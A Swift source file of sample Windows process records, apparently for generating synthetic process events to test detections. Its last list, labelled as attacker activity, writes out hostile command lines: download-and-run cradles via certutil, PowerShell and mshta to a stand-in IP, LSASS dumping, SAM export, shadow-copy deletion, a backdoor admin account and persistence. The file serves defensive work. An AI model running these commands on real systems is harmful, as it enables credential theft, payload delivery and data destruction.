/// A program that a Windows host starts; paths and quotes are written as JSON has them.
struct Program {
  var image: StaticString
  var original: StaticString
  var description: StaticString
  var company: StaticString = "Microsoft Corporation"
  /// `@` is the event's number.
  var commands: [StaticString]
  var parent: StaticString
  var parentCommand: StaticString
  var isSystem = false
}

extension Program {
  /// What an office runs all day.
  static let everyday: [Program] = [
    Program(
      image: #"C:\\Windows\\System32\\svchost.exe"#, original: #"svchost.exe"#,
      description: #"Host Process for Windows Services"#,
      commands: [
        #"C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"#,
        #"C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog"#,
        #"C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc"#,
      ],
      parent: #"C:\\Windows\\System32\\services.exe"#, parentCommand: #"C:\\Windows\\System32\\services.exe"#, isSystem: true),
    Program(
      image: #"C:\\Windows\\System32\\conhost.exe"#, original: #"CONHOST.EXE"#,
      description: #"Console Window Host"#,
      commands: [
        #"\\??\\C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1"#,
        #"\\??\\C:\\Windows\\System32\\conhost.exe 0x4"#,
      ],
      parent: #"C:\\Program Files\\Git\\usr\\bin\\sh.exe"#, parentCommand: #"sh.exe --login -i"#),
    Program(
      image: #"C:\\Windows\\System32\\RuntimeBroker.exe"#, original: #"RuntimeBroker.exe"#,
      description: #"Runtime Broker"#,
      commands: [
        #"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"#
      ],
      parent: #"C:\\Windows\\System32\\svchost.exe"#, parentCommand: #"C:\\Windows\\System32\\svchost.exe -k DcomLaunch -p"#),
    Program(
      image: #"C:\\Windows\\System32\\backgroundTaskHost.exe"#, original: #"backgroundTaskHost.exe"#,
      description: #"Background Task Host"#,
      commands: [
        #"\"C:\\Windows\\System32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"#
      ],
      parent: #"C:\\Windows\\System32\\svchost.exe"#, parentCommand: #"C:\\Windows\\System32\\svchost.exe -k DcomLaunch -p"#),
    Program(
      image: #"C:\\Windows\\System32\\taskhostw.exe"#, original: #"taskhostw.exe"#,
      description: #"Host Process for Windows Tasks"#,
      commands: [
        #"taskhostw.exe"#,
        #"taskhostw.exe Install $(Arg0)"#,
      ],
      parent: #"C:\\Windows\\System32\\svchost.exe"#,
      parentCommand: #"C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"#, isSystem: true),
    Program(
      image: #"C:\\Windows\\System32\\SearchProtocolHost.exe"#, original: #"SearchProtocolHost.exe"#,
      description: #"Microsoft Windows Search Protocol Host"#,
      commands: [
        #"\"C:\\Windows\\System32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe@ Global\\UsGthrCtrlFltPipeMssGthrPipe@ 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\""#
      ],
      parent: #"C:\\Windows\\System32\\SearchIndexer.exe"#,
      parentCommand: #"C:\\Windows\\System32\\SearchIndexer.exe /Embedding"#, isSystem: true),
    Program(
      image: #"C:\\Windows\\System32\\SearchFilterHost.exe"#, original: #"SearchFilterHost.exe"#,
      description: #"Microsoft Windows Search Filter Host"#,
      commands: [
        #"\"C:\\Windows\\System32\\SearchFilterHost.exe\" 0 812 816 824 8192 820 792"#
      ],
      parent: #"C:\\Windows\\System32\\SearchIndexer.exe"#,
      parentCommand: #"C:\\Windows\\System32\\SearchIndexer.exe /Embedding"#, isSystem: true),
    Program(
      image: #"C:\\Windows\\System32\\dllhost.exe"#, original: #"dllhost.exe"#,
      description: #"COM Surrogate"#,
      commands: [
        #"C:\\Windows\\System32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"#,
        #"C:\\Windows\\System32\\DllHost.exe /Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}"#,
      ],
      parent: #"C:\\Windows\\System32\\svchost.exe"#, parentCommand: #"C:\\Windows\\System32\\svchost.exe -k DcomLaunch -p"#),
    Program(
      image: #"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"#, original: #"Wmiprvse.exe"#,
      description: #"WMI Provider Host"#,
      commands: [
        #"C:\\Windows\\System32\\wbem\\wmiprvse.exe -secured -Embedding"#
      ],
      parent: #"C:\\Windows\\System32\\svchost.exe"#, parentCommand: #"C:\\Windows\\System32\\svchost.exe -k DcomLaunch -p"#,
      isSystem: true),
    Program(
      image: #"C:\\Windows\\System32\\audiodg.exe"#, original: #"AUDIODG.EXE"#,
      description: #"Windows Audio Device Graph Isolation "#,
      commands: [
        #"C:\\Windows\\System32\\AUDIODG.EXE 0x4c8"#
      ],
      parent: #"C:\\Windows\\System32\\svchost.exe"#,
      parentCommand: #"C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p"#, isSystem: true),
    Program(
      image: #"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"#, original: #"chrome.exe"#,
      description: #"Google Chrome"#, company: #"Google LLC"#,
      commands: [
        #"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --origin-trial-disabled-features=ConditionalTracing --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=@ --launch-time-ticks=@ --field-trial-handle=@,i,112,262144 /prefetch:1"#,
        #"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=@,i,84,262144 /prefetch:11"#,
        #"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAA4AAAAAAAAAAAAAAAIAAAAAAAAAA /prefetch:2"#,
      ],
      parent: #"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"#,
      parentCommand: #"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""#),
    Program(
      image: #"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"#, original: #"msedge.exe"#,
      description: #"Microsoft Edge"#,
      commands: [
        #"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer --noerrdialogs --user-data-dir=\"C:\\Users\\user\\AppData\\Local\\Microsoft\\Edge\\User Data\" --lang=en-GB --js-flags=--ms-user-locale= --renderer-client-id=@ --time-ticks-at-unix-epoch=-@ /prefetch:1"#,
        #"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default"#,
      ],
      parent: #"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"#,
      parentCommand:
        #"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window --win-session-start"#),
    Program(
      image: #"C:\\Program Files\\Mozilla Firefox\\firefox.exe"#, original: #"firefox.exe"#,
      description: #"Firefox"#, company: #"Mozilla Corporation"#,
      commands: [
        #"\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc --channel=\"@\" -childID 7 -isForBrowser -prefsHandle 4312 -prefMapHandle 4316 -parentBuildID 20260211 -appDir \"C:\\Program Files\\Mozilla Firefox\\browser\" - {@} 9020 tab"#
      ],
      parent: #"C:\\Program Files\\Mozilla Firefox\\firefox.exe"#,
      parentCommand: #"\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\""#),
    Program(
      image: #"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"#, original: #"Outlook.exe"#,
      description: #"Microsoft Outlook"#,
      commands: [
        #"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""#,
        #"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\" /restore"#,
      ],
      parent: #"C:\\Windows\\explorer.exe"#, parentCommand: #"C:\\Windows\\Explorer.EXE"#),
    Program(
      image: #"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"#, original: #"WinWord.exe"#,
      description: #"Microsoft Word"#,
      commands: [
        #"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\user\\Documents\\Offer @ final.docx\" /o \"\""#
      ],
      parent: #"C:\\Windows\\explorer.exe"#, parentCommand: #"C:\\Windows\\Explorer.EXE"#),
    Program(
      image: #"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"#, original: #"Excel.exe"#,
      description: #"Microsoft Excel"#,
      commands: [
        #"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\user\\OneDrive\\Figures\\quarter-@.xlsx\""#
      ],
      parent: #"C:\\Windows\\explorer.exe"#, parentCommand: #"C:\\Windows\\Explorer.EXE"#),
    Program(
      image: #"C:\\Users\\user\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"#, original: #"Teams.exe"#,
      description: #"Microsoft Teams"#,
      commands: [
        #"\"C:\\Users\\user\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=renderer --autoplay-policy=no-user-gesture-required --disable-background-timer-throttling --renderer-client-id=@ /prefetch:1"#
      ],
      parent: #"C:\\Windows\\explorer.exe"#,
      parentCommand: #"C:\\Windows\\Explorer.EXE"#),
    Program(
      image: #"C:\\Users\\user\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"#, original: #"OneDrive.exe"#,
      description: #"Microsoft OneDrive"#,
      commands: [
        #"\"C:\\Users\\user\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"#
      ],
      parent: #"C:\\Windows\\explorer.exe"#, parentCommand: #"C:\\Windows\\Explorer.EXE"#),
    Program(
      image: #"C:\\Users\\user\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"#, original: #"electron.exe"#,
      description: #"Visual Studio Code"#,
      commands: [
        #"\"C:\\Users\\user\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --user-data-dir=\"C:\\Users\\user\\AppData\\Roaming\\Code\" --field-trial-handle=@ /prefetch:8"#
      ],
      parent: #"C:\\Users\\user\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"#,
      parentCommand: #"\"C:\\Users\\user\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\""#),
    Program(
      image: #"C:\\Program Files\\Git\\cmd\\git.exe"#, original: #"git.exe"#,
      description: #"Git for Windows"#, company: #"The Git Development Community"#,
      commands: [
        #"git.exe status -z -uall"#,
        #"git.exe rev-parse --show-toplevel"#,
        #"git.exe fetch --prune origin @"#,
        #"git.exe -c credential.helper= log -n 20 --format=%H"#,
      ],
      parent: #"C:\\Users\\user\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"#,
      parentCommand: #"\"C:\\Users\\user\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\""#),
    Program(
      image: #"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe"#,
      original: #"MSBuild.exe"#,
      description: #"MSBuild.exe"#,
      commands: [
        #"\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe\" Shop.sln /m /nologo /v:minimal /p:Configuration=Release /p:BuildNumber=@"#,
        #"\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe\" /nodemode:1 /nodeReuse:true"#,
      ],
      parent: #"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe"#,
      parentCommand: #"devenv.exe Shop.sln"#),
    Program(
      image: #"C:\\Program Files\\nodejs\\node.exe"#, original: #"node.exe"#,
      description: #"Node.js JavaScript Runtime"#, company: #"Node.js"#,
      commands: [
        #"node.exe --max-old-space-size=4096 C:\\src\\shop\\node_modules\\.bin\\tsc --noEmit --pretty"#,
        #"node.exe dist/server --port @"#,
      ],
      parent: #"C:\\Program Files\\nodejs\\node.exe"#, parentCommand: #"node.exe npm-cli.js run build"#),
    Program(
      image: #"C:\\Windows\\SysWOW64\\notepad.exe"#, original: #"NOTEPAD.EXE"#,
      description: #"Notepad"#,
      commands: [
        #"\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\user\\Desktop\\notes-@.txt"#
      ],
      parent: #"C:\\Windows\\explorer.exe"#, parentCommand: #"C:\\Windows\\Explorer.EXE"#),
    Program(
      image: #"C:\\Program Files\\7-Zip\\7zFM.exe"#, original: #"7zFM.exe"#,
      description: #"7-Zip File Manager"#, company: #"Igor Pavlov"#,
      commands: [
        #"\"C:\\Program Files\\7-Zip\\7zFM.exe\" \"C:\\Users\\user\\Downloads\\drawings-@.zip\""#
      ],
      parent: #"C:\\Windows\\explorer.exe"#, parentCommand: #"C:\\Windows\\Explorer.EXE"#),
  ]

  /// What administrators, installers and builds run.
  static let administration: [Program] = [
    Program(
      image: #"C:\\Windows\\System32\\cmd.exe"#, original: #"Cmd.Exe"#,
      description: #"Windows Command Processor"#,
      commands: [
        #"C:\\Windows\\System32\\cmd.exe /d /s /c \"npm run test -- --runInBand\""#,
        #"C:\\Windows\\System32\\cmd.exe /c \"\"C:\\src\\shop\\build.cmd\" Release @\""#,
      ],
      parent: #"C:\\Program Files\\nodejs\\node.exe"#, parentCommand: #"node.exe npm-cli.js test"#),
    Program(
      image: #"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#, original: #"PowerShell.EXE"#,
      description: #"Windows PowerShell"#,
      commands: [
        #"powershell.exe -File C:\\Tools\\Inventory.ps1 -Site Berlin -Run @"#,
        #"powershell.exe -NoLogo -Command \"Get-Service | Where-Object Status -eq Stopped\""#,
      ],
      parent: #"C:\\Windows\\explorer.exe"#, parentCommand: #"C:\\Windows\\Explorer.EXE"#),
    Program(
      image: #"C:\\Windows\\System32\\rundll32.exe"#, original: #"RUNDLL32.EXE"#,
      description: #"Windows host process (Rundll32)"#,
      commands: [

        #"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask"#
      ],
      parent: #"C:\\Windows\\System32\\svchost.exe"#,
      parentCommand: #"C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"#, isSystem: true),
    Program(
      image: #"C:\\Windows\\System32\\reg.exe"#, original: #"reg.exe"#,
      description: #"Registry Console Tool"#,
      commands: [
        #"reg query \"HKLM\\SOFTWARE\\Shop\\Terminal\" /v Version"#,
        #"reg query HKCU\\Software\\Shop\\@ /v Path"#,
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe /c C:\\Tools\\collect.cmd @"#),
    Program(
      image: #"C:\\Windows\\System32\\sc.exe"#, original: #"sc.exe"#,
      description: #"Service Control Manager Configuration Tool"#,
      commands: [
        #"sc getdisplayname wuauserv"#,
        #"sc getkeyname Spooler"#,
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe /c C:\\Tools\\collect.cmd @"#, isSystem: true),
    Program(
      image: #"C:\\Windows\\System32\\schtasks.exe"#, original: #"schtasks.exe"#,
      description: #"Task Scheduler Configuration Tool"#,
      commands: [
        #"schtasks /query /fo csv /tn Backup@"#
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe /c C:\\Tools\\collect.cmd @"#, isSystem: true),
    Program(
      image: #"C:\\Windows\\System32\\ipconfig.exe"#, original: #"ipconfig.exe"#,
      description: #"IP Configuration Utility"#,
      commands: [
        #"ipconfig /flushdns"#,
        #"ipconfig"#,
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe"#),
    Program(
      image: #"C:\\Windows\\System32\\PING.EXE"#, original: #"ping.exe"#,
      description: #"TCP/IP Ping Command"#,
      commands: [
        #"ping -n 4 build-@.corp.example.com"#
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe"#),
    Program(
      image: #"C:\\Windows\\System32\\msiexec.exe"#, original: #"msiexec.exe"#,
      description: #"Windows® installer"#,
      commands: [
        #"C:\\Windows\\System32\\msiexec.exe /V"#,
        #"C:\\Windows\\System32\\msiexec.exe /i C:\\Windows\\ccmcache\\@\\agent.msi"#,
      ],
      parent: #"C:\\Windows\\System32\\services.exe"#, parentCommand: #"C:\\Windows\\System32\\services.exe"#, isSystem: true),
    Program(
      image: #"C:\\Program Files\\Python312\\python.exe"#, original: #"python.exe"#,
      description: #"Python"#, company: #"Python Software Foundation"#,
      commands: [
        #"python.exe -m pytest -q tests\\unit --junitxml report-@.xml"#,
        #"python.exe manage.py migrate"#,
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe /c test.cmd @"#),
    Program(
      image: #"C:\\Windows\\System32\\Robocopy.exe"#, original: #"robocopy.exe"#,
      description: #"Microsoft Robocopy"#,
      commands: [
        #"robocopy C:\\src\\shop\\out D:\\drop\\@ /MIR /NP"#
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe"#),
    Program(
      image: #"C:\\Windows\\System32\\mmc.exe"#, original: #"mmc.exe"#,
      description: #"Microsoft Management Console"#,
      commands: [
        #"\"C:\\Windows\\System32\\mmc.exe\" \"C:\\Windows\\System32\\services.msc\""#,
        #"\"C:\\Windows\\System32\\mmc.exe\" C:\\Windows\\System32\\eventvwr.msc"#,
      ],
      parent: #"C:\\Windows\\explorer.exe"#, parentCommand: #"C:\\Windows\\Explorer.EXE"#),
  ]

  /// What an attacker would run.
  static let attacks: [Program] = [
    Program(
      image: #"C:\\Windows\\System32\\whoami.exe"#, original: #"whoami.exe"#,
      description: #"whoami - displays logged on user information"#,
      commands: [
        #"whoami /priv"#,
        #"whoami /all"#,
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe"#),
    Program(
      image: #"C:\\Windows\\System32\\certutil.exe"#, original: #"CertUtil.exe"#,
      description: #"CertUtil.exe"#,
      commands: [
        #"certutil.exe -urlcache -split -f http://198.51.100.7/@.exe C:\\Users\\Public\\@.exe"#
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe /c stage.cmd"#),
    Program(
      image: #"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#, original: #"PowerShell.EXE"#,
      description: #"Windows PowerShell"#,
      commands: [
        #"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#,
        #"powershell.exe -nop -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/@')"#,
      ],
      parent: #"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"#, parentCommand: #"WINWORD.EXE /n offer.docm"#),
    Program(
      image: #"C:\\Windows\\System32\\vssadmin.exe"#, original: #"VSSADMIN.EXE"#,
      description: #"Command Line Interface for Microsoft® Volume Shadow Copy Service"#,
      commands: [
        #"vssadmin.exe delete shadows /all /quiet"#
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe"#),
    Program(
      image: #"C:\\Windows\\System32\\rundll32.exe"#, original: #"RUNDLL32.EXE"#,
      description: #"Windows host process (Rundll32)"#,
      commands: [
        #"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass-@.dmp full"#
      ],
      parent: #"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#, parentCommand: #"powershell.exe"#),
    Program(
      image: #"C:\\Windows\\System32\\reg.exe"#, original: #"reg.exe"#,
      description: #"Registry Console Tool"#,
      commands: [
        #"reg save HKLM\\SAM C:\\temp\\sam-@.hiv"#,
        #"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Update /d C:\\Users\\Public\\@.exe"#,
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe"#),
    Program(
      image: #"C:\\Windows\\System32\\net1.exe"#, original: #"net1.exe"#,
      description: #"Net Command"#,
      commands: [
        #"net1 user backup@ P4ssw0rd@ /add"#,
        #"net1 localgroup administrators backup@ /add"#,
      ],
      parent: #"C:\\Windows\\System32\\net.exe"#, parentCommand: #"net user backup@ P4ssw0rd@ /add"#),
    Program(
      image: #"C:\\Windows\\System32\\mshta.exe"#, original: #"MSHTA.EXE"#,
      description: #"Microsoft (R) HTML Application host"#,
      commands: [
        #"mshta.exe http://198.51.100.7/@.hta"#
      ],
      parent: #"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"#, parentCommand: #"EXCEL.EXE offer.xlsm"#),
    Program(
      image: #"C:\\Windows\\System32\\schtasks.exe"#, original: #"schtasks.exe"#,
      description: #"Task Scheduler Configuration Tool"#,
      commands: [
        #"schtasks /create /sc minute /mo 5 /tn Update@ /tr C:\\Users\\Public\\@.exe /ru SYSTEM"#
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe"#),
    Program(
      image: #"C:\\Windows\\System32\\wbem\\WMIC.exe"#, original: #"wmic.exe"#,
      description: #"WMI Commandline Utility"#,
      commands: [
        #"wmic process call create \"C:\\Users\\Public\\@.exe\""#,
        #"wmic shadowcopy delete"#,
      ],
      parent: #"C:\\Windows\\System32\\cmd.exe"#, parentCommand: #"cmd.exe"#),
  ]
}
